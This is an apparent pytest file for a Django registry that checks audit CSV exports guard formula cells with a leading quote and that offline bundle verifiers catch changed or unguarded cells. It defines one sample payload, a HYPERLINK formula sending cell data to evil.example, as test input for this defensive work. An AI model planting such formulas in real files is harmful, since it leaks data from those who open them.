"""Formula injection: a cell of the audit CSV that a spreadsheet would run as a formula is
written with one leading quote, which both bundle verifiers undo, so every row still
verifies and a changed guarded cell is still found."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from django.db import transaction

from registry.audit.chain import event_content, verify_events
from registry.audit.record import audit_record
from registry.models import AuditEvent
from registry.offline import CSV_GUARDED_LEADS, csv_guard, csv_unguard
from registry.roles import Role
from reviews.bundles import bundle_build
from tests.audit.test_bundles import load_tool, resealed
from tests.builders import Candidate, make_user, record, run_command, run_tool, streamed, web

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
UNSAFE_STARTS = set("=+-@\t\r\n")


@pytest.fixture
def risky(model, team):
    """Events whose actor, object id, model and payload start like formulas (Django's own
    username rules allow a leading @, + or -), and one that genuinely starts with a quote."""
    mallory = make_user("@mallory", [Role.ML_ENGINEER], [team])
    record(1, model_name=model.name, actor=mallory, action="test.formula", note=FORMULA)
    record(1, model_name="-dashed", action="test.formula")
    return model


def guarded_events(model_name: str) -> list[AuditEvent]:
    """Events whose object_id starts with =, a quote, a tab or +."""
    with transaction.atomic():
        return [
            audit_record(
                actor=None,
                action="test.formula",
                object_type="tests.thing",
                object_id=object_id,
                model_name=model_name,
                payload={"text": object_id},
            )
            for object_id in (FORMULA, "'quoted", "\tindented", "+1")
        ]


def raw_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_the_csv_export_guards_formula_cells_and_every_row_still_verifies(risky, auditor):
    guarded_events(risky.name)

    data = streamed(web(auditor).get("/audit/export.csv"))

    rows = raw_rows(data)[1:]
    cells = [cell for row in rows for cell in row]
    assert not {cell[:1] for cell in cells} & UNSAFE_STARTS  # nothing a spreadsheet would run
    by_action = [row for row in rows if row[3] == "test.formula"]
    assert [row[2] for row in by_action[:1]] == ["'@mallory"]
    assert "'-dashed" in {row[6] for row in by_action}
    assert {row[5] for row in by_action} >= {"'" + FORMULA, "''quoted", "'\tindented", "'+1"}
    assert all(row[7].startswith("{") for row in rows)  # a payload is a JSON object
    tool = load_tool()
    restored = [
        dict(zip(tool.EVENT_COLUMNS, map(tool.csv_unguard, row), strict=True)) for row in rows
    ]
    for row in restored:
        row["seq"], row["payload"] = int(row["seq"]), json.loads(row["payload"])
    assert restored == [event_content(e) for e in AuditEvent.objects.order_by("seq")]
    assert verify_events(restored).ok


def test_the_jsonl_export_is_not_guarded(risky, auditor):
    events = guarded_events(risky.name)

    lines = [
        json.loads(line) for line in streamed(web(auditor).get("/audit/export.jsonl")).splitlines()
    ]

    assert FORMULA in {line["object_id"] for line in lines}
    assert {line["seq"]: line for line in lines}[events[1].seq]["object_id"] == "'quoted"


def test_the_exports_rule_and_the_offline_verifiers_rule_are_one():
    tool = load_tool()
    assert tool.CSV_GUARDED_LEADS == CSV_GUARDED_LEADS == frozenset("=+-@\t\r\n'")
    for text in ("", "a", FORMULA, "'", "''x", "-1", "@x", "\r\n", "x=1"):
        assert tool.csv_unguard(csv_guard(text)) == csv_unguard(csv_guard(text)) == text


# --- in a bundle -------------------------------------------------------------------------


@pytest.fixture
def bundle(risky, engineer, auditor) -> tuple[bytes, list[AuditEvent]]:
    Candidate().register(actor=engineer, model=risky)
    events = guarded_events(risky.name)
    return bundle_build(version=risky.versions.get(), actor=auditor).file.read(), events


def csv_of(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("audit/events.csv").decode()


def with_cell(text: str, seq: int, column: int, value: str) -> bytes:
    rows = raw_rows(text.encode())
    for row in rows:
        if row[0] == str(seq):
            row[column] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


def check_both(data: bytes, tmp_path: Path):
    path = tmp_path / "bundle.zip"
    path.write_bytes(data)
    return run_command(path), run_tool(path, tmp_path)


def test_a_bundle_with_guarded_cells_verifies_offline(bundle, tmp_path):
    data, _ = bundle
    text = csv_of(data)

    assert "'" + FORMULA.replace('"', '""') in text
    assert "\n'@mallory" not in text and ",'@mallory," in text
    for outcome in check_both(data, tmp_path):
        assert outcome.code == 0, outcome.output
        assert "Bundle intact." in outcome.output


def test_a_changed_guarded_cell_is_found(bundle, tmp_path):
    data, events = bundle
    seq = events[0].seq
    changed = with_cell(csv_of(data), seq, 5, "'" + FORMULA.replace("evil", "evil2"))

    for outcome in check_both(resealed(data, {"audit/events.csv": changed}), tmp_path):
        assert outcome.code == 1, outcome.output
        assert f"FAIL audit/events.csv event #{seq}: altered: field 'object_id'" in outcome.output


def test_a_dropped_guard_quote_is_found(bundle, tmp_path):
    data, events = bundle
    seq = events[0].seq
    unguarded = with_cell(csv_of(data), seq, 5, FORMULA)  # the value itself, now live

    for outcome in check_both(resealed(data, {"audit/events.csv": unguarded}), tmp_path):
        assert outcome.code == 1, outcome.output
        assert "field 'object_id' begins with '=' unguarded" in outcome.output
